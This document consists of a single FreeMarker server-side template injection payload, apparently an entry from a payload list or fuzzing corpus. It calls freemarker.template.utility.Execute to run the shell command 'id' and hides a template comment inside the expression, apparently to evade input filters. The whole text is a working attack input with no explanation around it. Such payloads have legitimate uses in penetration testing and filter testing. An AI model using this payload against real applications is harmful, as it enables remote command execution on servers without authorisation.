${"freemarker.template.utility.Execute"? <#-- not here --> new()("id")}
